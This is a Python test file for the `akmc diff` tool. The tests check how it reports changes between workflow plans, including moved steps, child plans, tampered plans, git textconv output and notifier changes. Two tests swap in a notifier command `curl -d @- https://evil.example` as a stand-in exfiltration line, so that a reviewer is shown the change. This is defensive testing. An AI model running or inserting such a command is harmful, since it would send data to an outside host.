"""`akmc diff`: what changed between two plans, recursing into child plans; and git's textconv."""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from syrupy.assertion import SnapshotAssertion

from akm_run import planformat as pf
from akm_run.plan import plan_hash
from akmc.compiler import Session
from akmc.diff import NOT_COMPARED, diff
from akmc.render import diff as renderer
from helpers import LANGUAGE_EXAMPLE, REPO, committed, edit, run_cli, source

EDITS = {
    "workflows/release.akm": [
        ("concurrency = 8", "concurrency = 6"),
        ("timeout = 10m", "timeout = 5m"),
        ("dry_run: bool = false", 'dry_run: bool = true\n    notes: string = ""'),
        ('  step signoff {\n    approval "Confirm the release notes before publishing."\n  }\n\n', ""),
        (
            "  step publish {",
            '  step notify {\n    shell "echo released"\n    inputs = [params.notes]\n  }\n\n  step publish {',
        ),
        ("max_units = 50", "max_units = 40"),
        ("reviewed: int(min: 0) = steps.collect.output.total", "reviewed: int = steps.collect.output.total"),
    ],
    "workflows/release-checklist.akm": [
        ('shell "scripts/verify-channel.sh"', 'shell "scripts/verify-channel.sh --strict"')
    ],
}


@pytest.fixture
def edited(tmp_path: Path) -> tuple[Path, Path]:
    """The language example before (a copy) and after a set of edits that touch every section."""
    before, after = tmp_path / "before", tmp_path / "after"
    shutil.copytree(LANGUAGE_EXAMPLE, before)
    shutil.copytree(LANGUAGE_EXAMPLE, after)
    for name, replacements in EDITS.items():
        path = after / name
        text = path.read_text()
        for old, new in replacements:
            assert old in text, old
            text = text.replace(old, new)
        path.write_text(text)
    return before, after


def _plan(root: Path, name: str = "workflows/release.akm") -> dict[str, Any]:
    plan = Session(root).check(root / name).plan
    assert plan is not None
    return plan


def test_diff_names_every_kind_of_change(edited: tuple[Path, Path]) -> None:
    result = diff(_plan(edited[0]), _plan(edited[1]))
    found = {(c.section, c.op, c.name) for c in result.changes}
    assert {
        ("params", "~", "dry_run"),
        ("params", "+", "notes"),
        ("outputs", "~", "reviewed"),
        ("limits", "~", "maxUnits"),
        ("steps", "+", "notify"),
        ("steps", "-", "signoff"),
        ("steps", "~", "review"),
        ("steps", "~", "checklist"),
    } <= found
    assert not [c for c in result.changes if c.section == "readSet"]  # sources are read by path only
    review = next(c for c in result.changes if c.name == "review")
    assert {f.field: (f.old, f.new) for f in review.fields}["concurrency"] == (8, 6)
    checklist = next(c for c in result.changes if c.name == "checklist")
    assert checklist.child is not None
    [verify] = [c for c in checklist.child.changes if c.section == "steps"]
    assert verify.name == "verify" and verify.fields[0].field == "target.command"


def test_equal_plans_have_no_changes() -> None:
    plan = _plan(LANGUAGE_EXAMPLE)
    result = diff(plan, json.loads(json.dumps(plan)))
    assert result.equal and result.changes == []


def test_a_moved_step_reports_its_position(tmp_path: Path) -> None:
    (tmp_path / "akm.toml").write_text("")
    a = source("""
        workflow "w" {
          step one {
            shell "1"
          }
          step two {
            shell "2"
          }
        }
    """)
    b = source("""
        workflow "w" {
          step two {
            shell "2"
          }
          step one {
            shell "1"
          }
        }
    """)
    (tmp_path / "a.akm").write_text(a)
    (tmp_path / "b.akm").write_text(b)
    result = diff(_plan(tmp_path, "a.akm"), _plan(tmp_path, "b.akm"))
    moved = {c.name: c.fields[0] for c in result.changes if c.section == "steps"}
    assert moved["one"].field == "position" and (moved["one"].old, moved["one"].new) == (1, 2)


def test_a_step_moved_into_a_block_is_a_change_of_both(tmp_path: Path) -> None:
    (tmp_path / "akm.toml").write_text("")
    (tmp_path / "a.akm").write_text(
        'workflow "w" {\n  step lint { shell "l" }\n  parallel checks {\n    step test { shell "t" }\n  }\n}\n'
    )
    (tmp_path / "b.akm").write_text(
        'workflow "w" {\n  parallel checks {\n    step lint { shell "l" }\n    step test { shell "t" }\n  }\n}\n'
    )
    result = diff(_plan(tmp_path, "a.akm"), _plan(tmp_path, "b.akm"))
    fields = {c.name: {f.field: (f.old, f.new) for f in c.fields} for c in result.changes if c.section == "steps"}
    assert fields["checks"]["members"] == (["test"], ["lint", "test"])
    assert fields["lint"]["block"] == (None, "checks")
    assert "test" not in fields  # unchanged inside its block


def test_cli_text_and_exit_codes(edited: tuple[Path, Path], snapshot: SnapshotAssertion) -> None:
    before, after = edited
    old_plan = before / "release.plan.json"
    assert run_cli("compile", "workflows/release.akm", "-o", str(old_plan), cwd=before).returncode == 0
    same = run_cli("diff", str(old_plan), "workflows/release.akm", cwd=before)
    assert same.returncode == 0 and same.stdout.startswith("no changes: workflows/release")
    changed = run_cli("diff", str(old_plan), "workflows/release.akm", cwd=after)
    assert changed.returncode == 1
    assert changed.stdout == snapshot


def test_cli_json(edited: tuple[Path, Path]) -> None:
    before, after = edited
    result = run_cli(
        "diff", str(before / "workflows/release.akm"), "workflows/release.akm", "--format", "json", cwd=after
    )
    assert result.returncode == 1
    document = json.loads(result.stdout)
    assert document["equal"] is False
    checklist = next(c for c in document["changes"] if c["name"] == "checklist")
    assert checklist["op"] == "~" and checklist["child"]["old"]["ref"] == "workflows/release-checklist"


def test_cli_refuses_a_tampered_plan(edited: tuple[Path, Path]) -> None:
    before, _ = edited
    plan_file = before / "release.plan.json"
    assert run_cli("compile", "workflows/release.akm", "-o", str(plan_file), cwd=before).returncode == 0
    plan_file.write_text(plan_file.read_text().replace('"concurrency": 8', '"concurrency": 9'))
    result = run_cli("diff", str(plan_file), "workflows/release.akm", cwd=before)
    assert result.returncode == 4 and "refused" in result.stderr and "Traceback" not in result.stderr


def test_git_textconv_shows_plan_changes(edited: tuple[Path, Path]) -> None:
    """The documented git set-up: `*.plan.json diff=akmplan` with `akmc plan` as textconv."""
    before, after = edited
    repo = before
    akmc = Path(sys.executable).parent / "akmc"

    def git(*args: str) -> str:
        return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True).stdout

    git("init", "-q")
    git("config", "user.email", "ci@example.invalid")
    git("config", "user.name", "ci")
    git("config", "diff.akmplan.textconv", f"{akmc} plan")
    (repo / ".gitattributes").write_text("*.plan.json diff=akmplan\n")
    assert run_cli("compile", "workflows/release.akm", "-o", "release.plan.json", cwd=repo).returncode == 0
    git("add", "-A")
    git("commit", "-qm", "plan")
    for name in EDITS:
        shutil.copy(after / name, repo / name)
    assert run_cli("compile", "workflows/release.akm", "-o", "release.plan.json", cwd=repo).returncode == 0
    shown = git("diff", "release.plan.json")
    assert "-  7. signoff" in shown and "notify" in shown and '"timeoutMs"' not in shown


def test_every_pair_of_golden_plans_diffs_cleanly() -> None:
    """Any two verified plans diff without error, in both formats; equal exactly when the hashes are."""
    plans = []
    for root in [REPO / "golden" / "corpus", LANGUAGE_EXAMPLE, *sorted((REPO / "golden" / "compose").iterdir())]:
        session = Session(root)
        for path in sorted((root / "workflows").glob("*.akm")):
            result = session.check(path)
            if result.plan is not None:
                plans.append(result.plan)
    assert len(plans) > 20
    for old in plans:
        for new in plans:
            difference = diff(old, new)
            assert difference.equal == (plan_hash(old) == plan_hash(new))
            assert difference.equal == (difference.changes == [])
            renderer.render(difference)
            json.dumps(difference.to_json())


# -- every top-level plan key that affects a run is compared -----------------------------------

NOTIFY = {"on": ["failed"], "target": {"kind": "shell", "command": "echo ok"}}
# How a test changes each top-level key of the plan definition. A key the definition gains fails
# the test below until it is given a change here (and `akmc diff` reports it) or is listed in
# akmc.diff.NOT_COMPARED with why no change of it can go unseen.
CHANGES: dict[str, Callable[[dict[str, Any]], None]] = {
    "irVersion": lambda p: p.update(irVersion=2),
    "ref": lambda p: p.update(ref="workflows/other"),
    "title": lambda p: p.update(title="Other"),
    "description": lambda p: p.update(description="Something else."),
    "sourceReadSet": lambda p: p["sourceReadSet"].append({"path": "workflows/other.akm"}),
    "limits": lambda p: p["limits"].update(concurrency=p["limits"]["concurrency"] + 1),
    "steps": lambda p: p["steps"][0].update(onError="continue"),
    "params": lambda p: p.setdefault("params", {}).update(extra={"schema": {"type": "string"}}),
    "outputs": lambda p: p.setdefault("outputs", {}).update(extra={"from": "params.channel"}),
    "notify": lambda p: p["notify"]["target"].update(command="curl -d @- https://evil.example"),
}
_SECTION = {"sourceReadSet": "readSet", **{key: "workflow" for key in ("irVersion", "ref", "title", "description")}}


@pytest.mark.parametrize("key", sorted(pf.Plan.__annotations__))
def test_every_top_level_plan_key_is_compared_or_deliberately_not(key: str) -> None:
    if key in NOT_COMPARED:
        return
    assert key in CHANGES, f"say how `akmc diff` compares the plan key `{key}`, or why not in NOT_COMPARED"
    old = {**_plan(LANGUAGE_EXAMPLE), "notify": NOTIFY}
    new = copy.deepcopy(old)
    CHANGES[key](new)
    result = diff(old, new)
    section = _SECTION.get(key, key)
    shown = [c for c in result.changes if c.section == section]
    assert shown and (section != "workflow" or [c.name for c in shown] == [key]), result.changes
    assert renderer.render(result).count("\n") > 2  # the change is shown, not only the hashes


def test_not_compared_names_only_keys_of_the_plan() -> None:
    assert set(NOT_COMPARED) <= set(pf.Plan.__annotations__)


def _notify_workspace(root: Path) -> None:
    (root / "workflows").mkdir(parents=True)
    (root / "akm.toml").write_text("")
    (root / "workflows" / "deploy.akm").write_text(
        source("""
            workflow "d" {
              notify {
                on = [failed]
                shell "echo ok"
                env {
                  A = "1"
                }
              }
              step a {
                shell "echo 1"
              }
            }
        """)
    )


def test_a_changed_notifier_is_shown_in_every_format(tmp_path: Path) -> None:
    """The notifier runs a command: a changed command, event list, env or timeout is a change a
    reviewer must see, in the two-file diff, as JSON, and against a revision as text and Markdown."""
    _notify_workspace(tmp_path)
    committed(tmp_path)
    original = (tmp_path / "workflows" / "deploy.akm").read_text()
    edit(
        tmp_path / "workflows" / "deploy.akm",
        'on = [failed]\n    shell "echo ok"',
        'on = [failed, completed]\n    shell "curl -d @- https://evil.example"\n    timeout = 5s',
    )
    edit(tmp_path / "workflows" / "deploy.akm", 'A = "1"', 'A = "2"')
    for output_format in ("text", "markdown"):
        rev = run_cli("diff", "--rev", "HEAD", "--format", output_format, cwd=tmp_path)
        assert rev.returncode == 1, rev.stderr
        assert "1 workflow changed against HEAD: 1 notifier changed" in rev.stdout
        assert "curl -d @- https://evil.example" in rev.stdout and "echo ok" in rev.stdout
    (tmp_path / "before.akm").write_text(original)
    text = run_cli("diff", "before.akm", "workflows/deploy.akm", cwd=tmp_path)
    assert text.returncode == 1, text.stderr
    assert 'notify:\n  ~ notify: on ["failed"] -> ["completed", "failed"];' in text.stdout
    assert "timeoutMs (none) -> 5s" in text.stdout and '"value": "2"' in text.stdout
    assert "        - echo ok\n        + curl -d @- https://evil.example\n" in text.stdout
    document = json.loads(
        run_cli("diff", "before.akm", "workflows/deploy.akm", "--format", "json", cwd=tmp_path).stdout
    )
    [notify] = [c for c in document["changes"] if c["section"] == "notify"]
    assert notify["op"] == "~" and notify["new"]["target"]["command"] == "curl -d @- https://evil.example"


def test_an_added_notifier_is_shown_in_full_and_a_removed_one_by_its_events(tmp_path: Path) -> None:
    _notify_workspace(tmp_path)
    plain = tmp_path / "plain.akm"
    plain.write_text('workflow "d" {\n  step a {\n    shell "echo 1"\n  }\n}\n')
    added = run_cli("diff", "plain.akm", "workflows/deploy.akm", cwd=tmp_path).stdout
    assert 'notify:\n  + notify: on failed  [shell]\n      command: echo ok\n      env:\n        A = "1"\n' in added
    removed = run_cli("diff", "workflows/deploy.akm", "plain.akm", cwd=tmp_path).stdout
    assert "notify:\n  - notify: on failed  [shell]\n" in removed and "echo ok" not in removed
